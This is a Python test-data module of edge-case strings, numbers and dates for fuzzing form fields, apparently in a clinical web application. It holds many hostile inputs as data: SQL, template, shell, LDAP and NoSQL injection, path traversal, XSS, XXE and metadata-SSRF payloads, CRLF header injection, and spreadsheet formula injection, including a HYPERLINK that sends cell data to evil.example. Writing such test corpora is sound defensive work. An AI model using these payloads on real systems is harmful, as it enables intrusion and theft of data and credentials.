"""Texts for text fields, and numbers and dates at their edges.

A few of each kind that public lists of naughty strings name; the texts are our own. Characters of
any other kind are drawn, in tests/fuzz.
"""

CODE = r"""' OR '1'='1
1; DROP TABLE cases_case; --
' UNION SELECT email, password FROM accounts_user --
'; SELECT pg_sleep(30); --
%' ESCAPE '!
_%_%_
{{ settings.SECRET_KEY }}
{% include "/etc/passwd" %}
{% debug %}
{{
{# never closed
${7*7}
%s%n%d
%(patient_name)s
%99999999s
{0.__class__}
{:>99999999}
%00
%0a%0d
\x00
\
; ls -la
$(sleep 30)
`sleep 30`
| cat /etc/passwd
-rf /
../../../../etc/passwd
..\..\windows\win.ini
//evil.example
file:///etc/passwd
*)(uid=*))(|(uid=*
{"$gt": ""}
__proto__
hasOwnProperty"""
MARKUP = """<script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<svg/onload=alert(1)//
</textarea></option></title><script>alert(1)</script>
<iframe srcdoc="<script>alert(1)</script>">
<a href="javascript:alert(1)">press</a>
javascript:alert(1)
<style>*{display:none}</style>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href=//evil.example/>
<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)>
<!--><script>alert(1)</script>-->
<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;amp;&notanentity;
" onmouseover="alert(1)
<b>bold
</b></b></b>
<img src="http://169.254.169.254/latest/meta-data/">
<h1>Approved by the lab</h1>
[press](javascript:alert(1)) **bold** # Heading
<https://evil.example>"""
FORMULAS = """=HYPERLINK("https://evil.example/?x="&A1,"Open")
=cmd|' /C calc'!A0
+1+1
-2+3+cmd|' /C calc'!A0
@SUM(1+1)
  @SUM(A1)
'=1+1
"=1+1"
;=1+1
,=1+1
=
-
+49 30 123456
|1+1
#REF!"""
VALUES = """-0
1e309
NaN
-Infinity
0x7fffffff
1.000,00
2147483648
9223372036854775808
99999999999999999999999999
½ + ¼
true
None
null
undefined
N/A
0000-00-00
24:00:00
MAR1
00501"""
WORDS = """O'Brien
Pat O’Brien
Müller-Lüdenscheidt
Zażółć gęślą jaźń
Đặng Thị Ngọc Ánh
Łukasz
Søren Ørsted
İstanbul
STRASSE straße
ﬁrst ligature
Null
Jane "JJ" Roe
Roe, Jane
Jane;Roe
Jane & John
"a b"@c.example
a@b.example, c@d.example
<a@b.example>
a@xn--80ak6aa92e.example
mailto:a@b.example?bcc=c@d.example
+1 (555) 010-0199 ext. 4
1Z5R89390357567127
#14
tooth 14
A-T
田中さん
김철수
Алексей Иванов
สมชาย ใจดี
नमस्ते डॉक्टर
አበበ ቢቂላ
𐌰𐌱𐌲 𐍃"""
RIGHT_TO_LEFT = [
    "\u05d3\u05e0\u05d9\u05d0\u05dc \u05db\u05d4\u05df", "\u0645\u062d\u0645\u062f 123 abc",
    "\u202egpj.exe", "Jane \u2067\u05d3\u05e0\u2069 Roe", "\u200fJane\u200e",
    "\u202e" * 40 + "Jane", "\u2066\u2066never ended", "\u0639\u0644\u06cc\u200c\u0631\u0636\u0627",
]  # fmt: skip
INVISIBLE = [
    "Ja\u200bne", "\u200b", "\ufeffJane", "Ja\u00adne", "\u3164", "\u2800", "\u00a0", "\u3000",
    "Jane\u2029Roe", "Jane\u0085Roe", "\ufe0f", "\U000e0041\U000e007f", " ", "\t", "\n", "  Jane  ",
]  # fmt: skip
CONTROLS = [
    "Jane\0Roe", "\0", "\x1b[31mred\x1b[0m", "\x7f\x80\x9f", "Jane\x0b\x0cRoe", "\x1a",
    "".join(map(chr, range(1, 32))),
]  # fmt: skip
LINES = [
    "Jane\r\nRoe", "Jane\rRoe", "\n\n\n\n\nJane", "Jane\n" * 200, "Jane\t\tRoe",
    "Jane\r\nBcc: victim@evil.example", "\r\nContent-Type: text/html\r\n\r\n<script>",
    "Jane%0d%0aSet-Cookie: sessionid=x", "Jane\r\n.\r\nQUIT\r\n", "Jane\nlevel=ERROR forged=1",
]  # fmt: skip
ODD_UNICODE = [
    "\U0001f9b7 #14 \U0001f44d\U0001f3fd \u2705 \u2192 \u2265 2 mm", "\U0001f600" * 60,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "1\ufe0f\u20e3", "o" + "\u0301" * 300,
    "\u0301Jane", "A\u030a \u00c5 \u212b", "\ufffd", "\uffff", "\U0010ffff", "\ue000",
    "\u0130\u0131\u017f", "\uff2a\uff41\uff4e\uff45", "J\u0430ne", "\uff1cscript\uff1ealert(1)",
    "\uff07 OR 1=1", "\u2044etc\u2044passwd", "\uff1d1+1", "\u22121+1", "\u0661\u0662\u2167\u00b2",
    "\u1112\u1161\u11ab", "\ufdfd", "\U00020000",
]  # fmt: skip
HUGE = [
    *("x" * length for length in (120, 121, 256, 501, 5001, 10_001, 100_000)), "\u00e9" * 121,
    "\U0001f9b7" * 120, "\ufdfa" * 120, "<" * 5000, "(" * 3000, "a " * 5000, "a\n" * 4999,
    "9" * 5000, "W" * 120, "a@" + "b" * 250 + ".example", "[" * 1000 + "]" * 1000, '{"a":' * 500,
]  # fmt: skip


def strings() -> list[str]:
    """All texts."""
    in_lines = "\n".join((CODE, MARKUP, FORMULAS, VALUES, WORDS)).split("\n")
    others = (RIGHT_TO_LEFT, INVISIBLE, CONTROLS, LINES, ODD_UNICODE, HUGE)
    return [*in_lines, *(text for kind in others for text in kind), ""]


def numbers() -> list[str]:
    """What is typed into number fields, and into addresses where a number belongs."""
    edges = (0, 1, 5, 255, 32768, 2**31 - 1, 2**31, 2**63 - 1, 2**63, 10**30, 10**400)
    odd = ["", " 5 ", "5.5", "5,0", "1e999", "NaN", "-inf", "0x10", "١٢", "--5", "+5", "1_0", "½"]
    return [*map(str, edges), *(str(-edge) for edge in edges[1:]), *odd, "5\0", "five", "9" * 5000]


def dates() -> list[str]:
    """Dates, times and moments at their edges and beyond."""
    days = [
        "0001-01-01", "0000-01-01", "1900-02-29", "1969-12-31", "2000-02-29", "2026-02-30",
        "2038-01-20", "9999-12-31", "10000-01-01", "-0001-01-01", "2026-13-01", "2026-1-1",
    ]  # fmt: skip
    odd = ["31/12/2026", "12/31/26", "20261231", "2026-W53-7", "tomorrow", "٢٠٢٦-01-01"]
    odd += ["2026-12-31\0", " 2026-12-31 ", "Dec 31 2026", "24:00", "25:61", "12:00 AM", "-1:00"]
    # Hours that the clocks of New York skip and repeat, and a leap second.
    odd += ["2026-03-08 02:30", "2026-11-01 01:30", "2026-12-31T23:59:60Z"]
    return [*days, *odd, *(f"{day} {hour}" for day in days for hour in ("00:00", "23:59:59"))]
